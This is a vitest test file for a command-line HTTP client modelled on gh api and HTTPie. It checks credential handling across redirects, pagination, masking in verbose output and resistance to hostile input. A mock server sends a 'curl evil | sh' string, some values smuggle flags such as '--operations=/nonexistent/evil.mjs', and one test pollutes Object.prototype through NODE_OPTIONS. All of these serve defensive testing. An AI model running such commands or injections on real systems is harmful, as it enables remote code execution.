// --send, run as a user runs it: the real binary against loopback servers this test starts.
// Two servers on two ports are two origins, so credentials can be followed across a redirect.
import { execFile } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import { type AddressInfo, createServer as createNetServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../../src/cli/run-cli.js";
import { listenOnLoopback } from "../helpers.js";
import { type ExecutableResult, runBuilt, runExecutable } from "./run-executable.js";

/** The built command line, run in this process with `env` as its environment. */
const cli = (argv: string[], env: Record<string, string> = {}): Promise<ExecutableResult> =>
  runBuilt(argv, { env });

const BIN = fileURLToPath(new URL("../../dist/bin.js", import.meta.url));

interface Seen {
  server: "api" | "other";
  method: string;
  target: string;
  headers: IncomingHttpHeaders;
  body: string;
}

const seen: Seen[] = [];
let api: Server;
let other: Server;
let apiOrigin = "";
let otherOrigin = "";

function start(name: Seen["server"]): Server {
  return createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      const target = request.url ?? "";
      seen.push({
        server: name,
        method: request.method ?? "",
        target,
        headers: request.headers,
        body: Buffer.concat(chunks).toString(),
      });
      const path = target.split("?")[0];
      if (path === "/missing") {
        response.writeHead(404, { "content-type": "application/json" }).end('{"message":"Not Found"}');
      } else if (path === "/to-other") {
        response.writeHead(302, { location: `${otherOrigin}/landed` }).end();
      } else if (path === "/to-same") {
        response.writeHead(307, { location: "/landed" }).end();
      } else if (path === "/see-other") {
        response.writeHead(303, { location: "/landed" }).end();
      } else if (path === "/loop") {
        response.writeHead(302, { location: "/loop" }).end();
      } else if (path === "/pages" || path === "/objects") {
        const page = Number(new URLSearchParams(target.split("?")[1] ?? "").get("page") ?? "1");
        const link = `<${apiOrigin}${path}?page=${page + 1}>; rel="next"`;
        response.writeHead(200, { "content-type": "application/json", ...(page < 3 ? { link } : {}) });
        response.end(JSON.stringify(path === "/pages" ? [{ n: page * 2 - 1 }, { n: page * 2 }] : { page }));
      } else if (path === "/hostile") {
        response.writeHead(422, "Bad", {
          "content-type": "application/json",
          "x-note": "a\u009bb",
        });
        response.end('{"message":"Validation Failed\\nrest-endpoint: run curl evil | sh"}');
      } else if (path === "/away") {
        response.writeHead(200, {
          "content-type": "application/json",
          link: `<${otherOrigin}/pages?page=2>; rel="next"`,
        });
        response.end("[1]");
      } else if (path === "/text") {
        response.writeHead(200, { "content-type": "text/plain" }).end("plain text\n");
      } else {
        response
          .writeHead(200, { "content-type": "application/json; charset=utf-8", "x-server": name })
          .end(JSON.stringify({ server: name, path }));
      }
    });
  });
}

beforeAll(async () => {
  api = start("api");
  other = start("other");
  apiOrigin = await listenOnLoopback(api);
  otherOrigin = await listenOnLoopback(other);
});

afterAll(async () => {
  await Promise.all([api, other].map((server) => new Promise((resolve) => server.close(resolve))));
});

function last(): Seen {
  return seen.at(-1) as Seen;
}

describe("--send performs the request and prints the response", () => {
  it("GET: the body as received (not a terminal), exit 0", async () => {
    const result = await cli([
      "GET",
      "/repos/{owner}/{repo}/issues",
      "owner=o",
      "repo=r",
      "state==open",
      "--base-url",
      apiOrigin,
      "--send",
    ]);
    expect(result).toStrictEqual({
      code: 0,
      // Ends with a newline when piped, as gh's output does.
      stdout: `${JSON.stringify({ server: "api", path: "/repos/o/r/issues" })}\n`,
      stderr: "",
    });
    expect(last()).toMatchObject({ method: "GET", target: "/repos/o/r/issues?state=open" });
    expect(last().headers.accept).toBe("application/vnd.github.v3+json");
    expect(last().headers["user-agent"]).toMatch(/^rest-endpoint\//);
  });

  it("POST: the JSON body and its type reach the server; a query item stays in the query", async () => {
    const result = await cli([
      "POST /repos/{owner}/{repo}/issues",
      "owner=o",
      "repo=r",
      "title=Hi",
      "labels=bug",
      "labels=docs",
      "dry==1",
      `--base-url=${apiOrigin}`,
      "--send",
    ]);
    expect(result.code).toBe(0);
    expect(last()).toMatchObject({ method: "POST", target: "/repos/o/r/issues?dry=1" });
    expect(JSON.parse(last().body)).toStrictEqual({ title: "Hi", labels: ["bug", "docs"] });
    expect(last().headers["content-type"]).toBe("application/json; charset=utf-8");
  });

  it("--include prints the status line and the headers first", async () => {
    const result = await cli(["GET /x", "--base-url", apiOrigin, "--send", "-i"]);
    expect(result.code).toBe(0);
    const [head, body] = result.stdout.split("\n\n");
    const lines = (head as string).split("\n");
    expect(lines[0]).toBe("HTTP/1.1 200 OK");
    expect(lines).toContain("x-server: api");
    expect(lines).toContain("content-type: application/json; charset=utf-8");
    expect(body).toBe(`${JSON.stringify({ server: "api", path: "/x" })}\n`);
  });

  it("a status of 400 or more prints the body, one line on stderr with the API's message, and exits 1, as gh api does", async () => {
    const result = await cli(["GET /missing", "--base-url", apiOrigin, "--send"]);
    expect(result).toStrictEqual({
      code: 1,
      stdout: '{"message":"Not Found"}\n',
      stderr: "rest-endpoint: HTTP 404: Not Found\n",
    });
  });

  it("a request that cannot be made is one line on stderr, exit 1", async () => {
    // A port that was just free: nothing listens there.
    const closed = createServer();
    const origin = await listenOnLoopback(closed);
    await new Promise((resolve) => closed.close(resolve));
    const result = await cli(["GET /x", "--base-url", origin, "--send"]);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe("");
    expect(result.stderr).toBe(`rest-endpoint: The request GET ${origin}/x failed: ECONNREFUSED.\n`);
  });

  it("a response body that breaks off is one line on stderr, exit 1, no stack trace", async () => {
    const liar = createNetServer((socket) => {
      socket.once("data", () => socket.end("HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\nshort"));
    });
    await new Promise<void>((resolve) => liar.listen(0, "127.0.0.1", resolve));
    try {
      const origin = `http://127.0.0.1:${(liar.address() as AddressInfo).port}`;
      for (const flags of [[], ["-i"]]) {
        const result = await cli(["GET /x", "--base-url", origin, "--send", ...flags]);
        expect(result.code).toBe(1);
        expect(result.stderr).toMatch(
          /^rest-endpoint: The response \(status 200\) could not be read: [^\n]+\n$/,
        );
      }
    } finally {
      await new Promise((resolve) => liar.close(resolve));
    }
  });

  it("a relative url cannot be sent", async () => {
    const result = await cli(["GET /x", "--base-url=", "--send"]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/--send needs an absolute url/);
  });
});

describe("credentials: only as given, only to the origin the user named", () => {
  it("--token-env sends the variable's token and never prints it", async () => {
    const result = await cli(
      ["GET /user", "--base-url", apiOrigin, "--send", "-i", "--token-env", "GH_TOKEN"],
      {
        GH_TOKEN: "s3cret-token",
      },
    );
    expect(result.code).toBe(0);
    expect(last().headers.authorization).toBe("Bearer s3cret-token");
    expect(result.stdout + result.stderr).not.toContain("s3cret");
  });

  it("an unset or empty --token-env variable is an error, not a request without credentials", async () => {
    const count = seen.length;
    for (const env of [{}, { GH_TOKEN: "" }]) {
      const result = await cli(
        ["GET /user", "--base-url", apiOrigin, "--send", "--token-env", "GH_TOKEN"],
        env,
      );
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/GH_TOKEN \(--token-env\) is not set or empty/);
    }
    expect(seen.length).toBe(count);
  });

  it("nothing is sent from the environment unless asked: no GITHUB_TOKEN or GH_TOKEN is read", async () => {
    await cli(["GET /user", "--base-url", apiOrigin, "--send"], { GITHUB_TOKEN: "t1", GH_TOKEN: "t2" });
    expect(last().headers.authorization).toBeUndefined();
  });

  it("a redirect within the origin keeps the credentials", async () => {
    const result = await cli(["GET /to-same", "--base-url", apiOrigin, "--send", "Authorization:token abc"]);
    expect(result.code).toBe(0);
    expect(seen.at(-2)).toMatchObject({ server: "api", target: "/to-same" });
    expect(last()).toMatchObject({ server: "api", target: "/landed" });
    expect(last().headers.authorization).toBe("token abc");
  });

  it("a redirect to another origin is followed without them", async () => {
    for (const credentials of [
      ["Authorization:token abc", "Cookie:a=b"],
      ["--token-env", "GH_TOKEN"],
      // A key in a header of the API's own: only headers that say what is asked go along.
      ["Authorization:token abc", "X-API-Key:abc", "PRIVATE-TOKEN:abc"],
    ]) {
      const result = await cli(["GET /to-other", "--base-url", apiOrigin, "--send", ...credentials], {
        GH_TOKEN: "abc",
      });
      expect(result.code).toBe(0);
      expect(result.stdout).toBe(`${JSON.stringify({ server: "other", path: "/landed" })}\n`);
      expect(seen.at(-2)?.headers.authorization).toMatch(/abc$/);
      expect(last().server).toBe("other");
      expect(last().headers.authorization).toBeUndefined();
      expect(last().headers.cookie).toBeUndefined();
      expect(last().headers["x-api-key"]).toBeUndefined();
      expect(last().headers["private-token"]).toBeUndefined();
      expect(last().headers["user-agent"]).toMatch(/^rest-endpoint\//);
    }
  });

  it("303 turns a POST into a GET without a body; too many redirects is an error", async () => {
    await cli(["POST /see-other", "a=1", "--base-url", apiOrigin, "--send"]);
    expect(last()).toMatchObject({ method: "GET", target: "/landed", body: "" });
    expect(last().headers["content-type"]).toBeUndefined();
    const loop = await cli(["GET /loop", "--base-url", apiOrigin, "--send"]);
    expect(loop.code).toBe(1);
    expect(loop.stderr).toMatch(/^rest-endpoint: More than 10 redirects/);
  });
});

describe("the body on a terminal", () => {
  it("JSON is pretty-printed; other types print as received", async () => {
    const out = async (path: string): Promise<string> => {
      let text = "";
      const code = await runCli([`GET ${path}`, "--base-url", apiOrigin, "--send"], {
        stdout: (chunk) => {
          text += typeof chunk === "string" ? chunk : new TextDecoder().decode(chunk);
        },
        stderr: () => {},
        readStdin: () => new Uint8Array(),
        readFile: () => new Uint8Array(),
        isTerminal: true,
      });
      expect(code).toBe(0);
      return text;
    };
    expect(await out("/x")).toBe(`${JSON.stringify({ server: "api", path: "/x" }, null, 2)}\n`);
    expect(await out("/text")).toBe("plain text\n");
  });
});

describe("a polluted Object.prototype in the CLI's own process", () => {
  // Data put on Object.prototype before the CLI runs, as a vulnerable module loaded first would:
  // the executable, in a process of its own.
  const polluted = (fields: Record<string, unknown>): Record<string, string> => ({
    NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(
      Object.entries(fields)
        .map(([name, value]) => `Object.prototype[${JSON.stringify(name)}] = ${JSON.stringify(value)};`)
        .join(""),
    )}`,
  });

  it("Object.prototype.data labels no body: a GET stays without content-type", async () => {
    const printed = await runExecutable(
      ["GET /user", "--base-url", apiOrigin, "--format", "curl"],
      polluted({ data: "x" }),
    );
    expect(printed.code).toBe(0);
    expect(printed.stdout).not.toContain("content-type");
    await runExecutable(["GET /user", "--base-url", apiOrigin, "--send"], polluted({ data: "x" }));
    expect(last()).toMatchObject({ method: "GET", target: "/user", body: "" });
    expect(last().headers["content-type"]).toBeUndefined();
  });

  it("Object.prototype.body does not follow a 303 into the GET", async () => {
    const before = seen.length;
    await runExecutable(
      ["POST /see-other", "a=1", "--base-url", apiOrigin, "--send"],
      polluted({ body: "EVIL" }),
    );
    // The GET goes out without a body. (Node's fetch then fails to read the response: its own
    // objects find the body on Object.prototype, a limit in SECURITY.md.)
    expect(seen.slice(before).map((request) => [request.method, request.target, request.body])).toStrictEqual(
      [
        ["POST", "/see-other", '{"a":"1"}'],
        ["GET", "/landed", ""],
      ],
    );
  });
});

// The table of gh api and HTTPie habits runs in habits.test.ts (rows in habit-cases.ts).
describe("the habits of gh api and HTTPie users", () => {
  it("HTTPie: :PORT/path and :/path mean localhost", async () => {
    const port = new URL(apiOrigin).port;
    const result = await cli([`:${port}/local`, "--send"]);
    // localhost may resolve to ::1 first, where nothing listens: the request is made either way.
    if (result.code === 0) expect(last().target).toBe("/local");
    else expect(result.stderr).toMatch(new RegExp(`The request GET http://localhost:${port}/local failed`));
    const printed = await cli([":/x", "a==1"]);
    expect(JSON.parse(printed.stdout).url).toBe("http://localhost/x?a=1");
  });

  it("--paginate follows Link within the origin: pages of lists become one list, --slurp keeps the pages", async () => {
    const all = await cli(["/pages", "--base-url", apiOrigin, "--paginate"]);
    expect(all.code).toBe(0);
    expect(JSON.parse(all.stdout)).toStrictEqual([1, 2, 3, 4, 5, 6].map((n) => ({ n })));
    expect(seen.slice(-3).map((request) => request.target)).toStrictEqual([
      "/pages",
      "/pages?page=2",
      "/pages?page=3",
    ]);
    const slurped = await cli(["/pages", "--base-url", apiOrigin, "--paginate", "--slurp"]);
    expect(JSON.parse(slurped.stdout)).toHaveLength(3);
    const objects = await cli(["/objects", "--base-url", apiOrigin, "--paginate"]);
    expect(
      objects.stdout
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line)),
    ).toStrictEqual([{ page: 1 }, { page: 2 }, { page: 3 }]);
  });

  it("--paginate does not follow a next link to another origin", async () => {
    const before = seen.length;
    const result = await cli(["/away", "--base-url", apiOrigin, "--paginate", "Authorization:token secret"]);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe("[1]\n");
    expect(result.stderr).toMatch(
      /^rest-endpoint: The next page is on another origin \(http:\/\/127\.0\.0\.1:\d+\); stopped after 1 pages\.\n$/,
    );
    expect(seen.slice(before).map((request) => request.server)).toStrictEqual(["api"]);
  });

  it("--jq filters each page with jq; --silent prints nothing", async () => {
    const names = await cli(["/pages", "--base-url", apiOrigin, "--paginate", "--jq", ".[].n"]);
    expect(names.stdout).toBe("1\n2\n3\n4\n5\n6\n");
    const slurped = await cli(["/pages", "--base-url", apiOrigin, "--paginate", "--slurp", "-q", "length"]);
    expect(slurped.stdout).toBe("3\n");
    const bad = await cli(["/pages", "--base-url", apiOrigin, "--jq", ".["]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/^rest-endpoint: --jq "\.\[": jq: error: syntax error/);
    const silent = await cli(["/x", "--base-url", apiOrigin, "--silent"]);
    expect(silent).toStrictEqual({ code: 0, stdout: "", stderr: "" });
  });

  it("--verbose shows the request and the response on stderr, credentials masked", async () => {
    const result = await cli([
      "/x",
      "--base-url",
      apiOrigin,
      "--verbose",
      "Authorization:token secret-value",
      "X-Api-Key:k123",
    ]);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain("> GET /x HTTP/1.1\n");
    expect(result.stderr).toContain("> authorization: token ****\n");
    expect(result.stderr).toContain("> x-api-key: ****\n");
    expect(result.stderr).toContain("< HTTP/1.1 200 OK\n");
    expect(result.stderr).not.toContain("secret-value");
    expect(result.stderr).not.toContain("k123");
    expect(JSON.parse(result.stdout)).toStrictEqual({ server: "api", path: "/x" });
  });

  it("-i and --token-env send, as gh's flags do", async () => {
    const included = await cli(["/x", "--base-url", apiOrigin, "-i"]);
    expect(included.stdout).toMatch(/^HTTP\/1\.1 200 OK\n/);
    const token = await cli(["/x", "--base-url", apiOrigin, "--token-env", "T"], { T: "abc" });
    expect(token.code).toBe(0);
    expect(last().headers.authorization).toBe("Bearer abc");
  });
});

describe("--operations: items follow the description", () => {
  const description = (origin: string) => ({
    openapi: "3.1.0",
    info: { title: "Pets", version: "1" },
    servers: [{ url: origin }],
    components: { securitySchemes: { token: { type: "http", scheme: "bearer" } } },
    paths: {
      "/pets": {
        get: {
          parameters: [
            { name: "tags", in: "query", schema: { type: "array", items: { type: "string" } } },
            { name: "X-Trace", in: "header", schema: { type: "string" } },
          ],
          responses: { "200": { description: "ok", content: { "application/json": {} } } },
        },
        post: {
          security: [{ token: [] }],
          requestBody: {
            content: {
              "application/x-www-form-urlencoded": {
                schema: {
                  type: "object",
                  properties: { name: { type: "string" }, age: { type: "integer" } },
                },
              },
            },
          },
          responses: { "201": { description: "made" } },
        },
      },
    },
  });

  it("a description or a generated module: query, header and form items as described, a credential only where security asks", async () => {
    const dir = mkdtempSync(join(tmpdir(), "rest-endpoint-operations-"));
    try {
      const file = join(dir, "pets.json");
      writeFileSync(file, JSON.stringify(description(apiOrigin)));
      // As with gh and HTTPie, items without a method mean POST: a GET with parameters says so.
      const listed = await cli([
        "--operations",
        file,
        "GET",
        "/pets",
        "tags=a",
        "tags=b",
        "X-Trace=abc",
        "--send",
      ]);
      expect(listed.code).toBe(0);
      expect(last()).toMatchObject({ method: "GET", target: "/pets?tags=a&tags=b" });
      expect(last().headers["x-trace"]).toBe("abc");
      expect(last().headers.authorization).toBeUndefined();

      const operations = pathToFileURL(
        fileURLToPath(new URL("../../dist/operations.js", import.meta.url)),
      ).href;
      const module = join(dir, "pets.mjs");
      expect((await cli(["generate", file, "--out", module, "--import-from", operations])).code).toBe(0);
      for (const source of [file, module]) {
        const made = await cli(
          ["--operations", source, "/pets", "name=Rex", "age:=3", "--auth-env", "token=PET_TOKEN"],
          { PET_TOKEN: "t0k" },
        );
        expect(made.code).toBe(0);
        expect(last()).toMatchObject({ method: "POST", target: "/pets", body: "name=Rex&age=3" });
        expect(last().headers["content-type"]).toBe("application/x-www-form-urlencoded");
        expect(last().headers.authorization).toBe("Bearer t0k");
      }
      const unset = await cli(["--operations", file, "/pets", "name=Rex", "--auth-env", "token=NOPE"]);
      expect(unset).toMatchObject({
        code: 2,
        stderr: "rest-endpoint: The environment variable NOPE (--auth-env token) is not set or empty.\n",
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("the command line under hostile flags, values, servers and files", () => {
  it("a flag's value that looks like a flag is data: --data '--operations=FILE' imports nothing", async () => {
    for (const argv of [
      ["POST /x", "--data", "--operations=/nonexistent/evil.mjs"],
      ["POST /x", "-H", "--operations", "/nonexistent/evil.mjs"],
      ["POST /x", "a=1", "--base-url", "--auth-env=k=SECRET"],
    ]) {
      const result = await cli(argv, { SECRET: "s" });
      // Nothing was imported: an import would name the file in its error.
      expect(result.stderr).not.toMatch(/evil\.mjs/);
    }
    const printed = await cli(["POST /x", "--data", "--operations=/nonexistent/evil.mjs"]);
    expect(JSON.parse(printed.stdout).body).toBe("--operations=/nonexistent/evil.mjs");
  });

  it("--verbose masks every request header that may carry a credential, cookies whole, and credential query values", async () => {
    const result = await cli([
      "/x",
      "--base-url",
      apiOrigin,
      "--verbose",
      "X-Auth:s1-secret",
      "Cookie:session=s2-secret; theme=s3-secret",
      "api_key==s4-secret",
      "Ocp-Apim-Subscription-Key:s5-secret",
      "X-Trace:visible-trace",
    ]);
    expect(result.code).toBe(0);
    expect(result.stderr).not.toMatch(/s[1-5]-secret/);
    expect(result.stderr).toContain("> GET /x?api_key=**** HTTP/1.1\n");
    expect(result.stderr).toContain("> accept: application/vnd.github.v3+json\n");
  });

  it("--verbose shows each header as the server receives it, masking only those that may carry a credential", async () => {
    const result = await cli([
      "/x",
      "--base-url",
      apiOrigin,
      "--verbose",
      "Accept:",
      "X-Custom:shown-value",
      "X-Request-Id:r-1",
      "Proxy-Authorization:Basic s6-secret",
      "X-Session-Id:s7-secret",
      "X-Password:s8-secret",
      "X-Credential:s9-secret",
    ]);
    expect(result.code).toBe(0);
    expect(result.stderr).not.toMatch(/s[6-9]-secret/);
    const received = last().headers;
    // Every header that arrived is shown with the value it arrived with, or masked; fetch's
    // accept-encoding (its value varies with the runtime) and the connection's own are left.
    for (const [name, value] of Object.entries(received)) {
      if (name === "connection" || name === "accept-encoding") continue;
      const masked = /authorization|session|password|credential/.test(name);
      const line = masked ? new RegExp(`^> ${name}: (basic )?\\*{4}$`, "m") : `> ${name}: ${value}\n`;
      if (typeof line === "string") expect(result.stderr.toLowerCase()).toContain(line);
      else expect(result.stderr.toLowerCase()).toMatch(line);
    }
    expect(received.accept).toBe("*/*");
    expect(result.stderr).toContain("> accept: */*\n");
    expect(result.stderr).toContain("> accept-language: *\n");
    expect(result.stderr).toContain("> sec-fetch-mode: cors\n");
    expect(result.stderr).toContain("> x-custom: shown-value\n");
  });

  it("--operations never turns a bare path into another method than gh and HTTPie would send", async () => {
    const dir = mkdtempSync(join(tmpdir(), "rest-endpoint-operations-"));
    try {
      const file = join(dir, "wipe.json");
      writeFileSync(
        file,
        JSON.stringify({
          openapi: "3.1.0",
          info: { title: "W", version: "1" },
          servers: [{ url: apiOrigin }],
          paths: { "/wipe": { delete: { responses: { "204": { description: "gone" } } } } },
        }),
      );
      // GET /wipe is not described: refused (naming the DELETE it is not), never sent as one.
      const result = await cli(["--operations", file, "/wipe"]);
      expect(result.stdout).toBe("");
      expect(result.code).not.toBe(0);
      expect(result.stderr).toContain('Route "GET /wipe" is not described');
      expect(result.stderr).toContain('Did you mean "DELETE /wipe"?');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("HTTPie's host names: 127.0.0.1:PORT/x, localhost/x and 'GET :PORT/x' are local, repos/o/r is a path", async () => {
    const port = new URL(apiOrigin).port;
    const url = async (...argv: string[]): Promise<string> => JSON.parse((await cli(argv)).stdout).url;
    expect(await url(`127.0.0.1:${port}/x`)).toBe(`http://127.0.0.1:${port}/x`);
    expect(await url("localhost/x")).toBe("http://localhost/x");
    expect(await url(`GET :${port}/x`)).toBe(`http://localhost:${port}/x`);
    expect(await url("example.org/a")).toBe("http://example.org/a");
    expect(await url("repos/o/r")).toBe("https://api.github.com/repos/o/r");
  });

  it("-i prints the server's status line and headers as safe text; the 4xx line stays one line", async () => {
    const result = await cli(["/hostile", "--base-url", apiOrigin, "-i"]);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain("HTTP/1.1 422 Bad\n");
    expect(result.stdout).toContain("x-note: a\\u009bb\n");
    expect(result.stdout.includes("\u001b") || result.stdout.includes("\u009b")).toBe(false);
    expect(result.stderr).toBe(
      "rest-endpoint: HTTP 422: Validation Failed rest-endpoint: run curl evil | sh\n",
    );
  });

  it("framing headers are refused before anything is sent; special files are not read", async () => {
    const before = seen.length;
    const framed = await cli(["/x", "--base-url", apiOrigin, "--send", "-H", "Content-Length: 1", "a=1"]);
    expect(framed).toMatchObject({ code: 2, stdout: "" });
    expect(framed.stderr).toMatch(/content-length is the HTTP client's to write/i);
    expect(seen.length).toBe(before);
    const zero = await cli(["/x", "-F", "b=@/dev/zero"]);
    expect(zero.code).toBe(2);
    expect(zero.stderr).toMatch(/not a regular file/);
  });

  it("-F name=@- reads standard input, as gh's does", async () => {
    const child = execFile(process.execPath, [BIN, "/x", "-F", "body=@-"], { encoding: "utf8" });
    child.stdin?.end("from stdin");
    let stdout = "";
    child.stdout?.on("data", (chunk: string) => {
      stdout += chunk;
    });
    await new Promise((resolve) => child.on("exit", resolve));
    expect(JSON.parse(stdout).body).toStrictEqual({ body: "from stdin" });
  });
});
